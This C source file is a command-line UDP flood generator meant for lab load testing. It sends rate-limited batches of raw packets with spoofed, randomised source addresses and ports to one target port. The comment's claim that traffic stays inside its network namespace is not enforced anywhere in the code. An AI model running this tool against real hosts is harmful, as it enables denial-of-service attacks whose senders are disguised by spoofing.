/*
 * Sends messages out of a file to one UDP port as if each came from somewhere else: a flood for the laboratory, so
 * that what a victim can bear is measured and not believed. It leaves only the namespace that it is started in, and
 * it ends by itself: after so many packets, or when its time is over.
 *
 *   flood TARGET PORT PREFIX FILE BYTES PER_SECOND SECONDS [SEED]
 *
 * PREFIX: the first 16 bits of the sources, such as 10.66; the rest and the port are random. FILE: messages of BYTES
 * each, taken in turn. Prints how many packets left, how many did not, and in how many milliseconds.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 32
#define PACKET_MAX 1500
#define HEADERS ((int)(sizeof(struct iphdr) + sizeof(struct udphdr)))
#define PER_SECOND_MAX 200000
#define SECONDS_MAX 60

static uint64_t state;

/* xorshift64*: sources need to differ, not to be secret. */
static uint64_t chance(void) {
  state ^= state >> 12;
  state ^= state << 25;
  state ^= state >> 27;
  return state * 2685821657736338717ULL;
}

static double now_s(void) {
  struct timespec at;
  clock_gettime(CLOCK_MONOTONIC, &at);
  return at.tv_sec + at.tv_nsec / 1e9;
}

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static unsigned char *read_all(const char *path, long *bytes) {
  FILE *file = fopen(path, "rb");
  if (!file || fseek(file, 0, SEEK_END) != 0) fail(path);
  *bytes = ftell(file);
  rewind(file);
  unsigned char *all = malloc(*bytes > 0 ? *bytes : 1);
  if (!all || fread(all, 1, *bytes, file) != (size_t)*bytes) fail(path);
  fclose(file);
  return all;
}

static void put_headers(unsigned char *packet, int length, struct in_addr target, int port, uint32_t prefix) {
  struct iphdr *ip = (struct iphdr *)packet;
  struct udphdr *udp = (struct udphdr *)(packet + sizeof *ip);
  uint64_t dice = chance();
  memset(packet, 0, HEADERS);
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  /* .0 and .255 would be nobody's. */
  ip->saddr = htonl(prefix | (dice & 0xff00) | (1 + (dice >> 16) % 254));
  ip->daddr = target.s_addr;
  udp->source = htons(1024 + (dice >> 32) % 64000);
  udp->dest = htons(port);
  /* No checksum: UDP over IPv4 allows it. */
  udp->len = htons(sizeof *udp + length);
}

int main(int argc, char **argv) {
  if (argc < 8) {
    fprintf(stderr, "flood TARGET PORT PREFIX FILE BYTES PER_SECOND SECONDS [SEED]\n");
    return 2;
  }
  struct in_addr target, start;
  char prefix[32];
  snprintf(prefix, sizeof prefix, "%s.0.0", argv[3]);
  if (!inet_aton(argv[1], &target) || !inet_aton(prefix, &start)) return 2;
  int port = atoi(argv[2]), length = atoi(argv[5]);
  double per_second = atof(argv[6]), seconds = atof(argv[7]);
  if (length < 1 || length > PACKET_MAX - HEADERS || port < 1) return 2;
  if (per_second < 1 || per_second > PER_SECOND_MAX || seconds > SECONDS_MAX) return 2;
  state = argc > 8 ? strtoull(argv[8], NULL, 10) | 1 : 0x9e3779b97f4a7c15ULL;

  long bytes;
  unsigned char *messages = read_all(argv[4], &bytes);
  long count = bytes / length;
  if (count < 1) return 2;

  int sock = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), on = 1, room = 8 << 20;
  if (sock < 0 || setsockopt(sock, IPPROTO_IP, IP_HDRINCL, &on, sizeof on) != 0) fail("socket");
  setsockopt(sock, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof room);

  static unsigned char packets[BATCH][PACKET_MAX];
  struct mmsghdr heads[BATCH];
  struct iovec pieces[BATCH];
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = target};
  memset(heads, 0, sizeof heads);
  for (int n = 0; n < BATCH; n += 1) {
    pieces[n] = (struct iovec){packets[n], HEADERS + length};
    heads[n].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &pieces[n], .msg_iovlen = 1};
  }

  long sent = 0, refused = 0, total = (long)(per_second * seconds);
  double began = now_s();
  while (sent + refused < total && now_s() - began < seconds + 1) {
    long due = (long)((now_s() - began) * per_second) - sent - refused;
    if (due < 1) {
      struct timespec pause = {0, 200000};
      nanosleep(&pause, NULL);
      continue;
    }
    int size = due < BATCH ? due : BATCH;
    for (int n = 0; n < size; n += 1) {
      put_headers(packets[n], length, target, port, ntohl(start.s_addr));
      memcpy(packets[n] + HEADERS, messages + ((sent + refused + n) % count) * length, length);
    }
    int left = sendmmsg(sock, heads, size, 0);
    sent += left > 0 ? left : 0;
    refused += left > 0 ? size - left : size;
  }
  printf("{\"sent\":%ld,\"refused\":%ld,\"elapsedMs\":%.0f}\n", sent, refused, (now_s() - began) * 1e3);
  return 0;
}
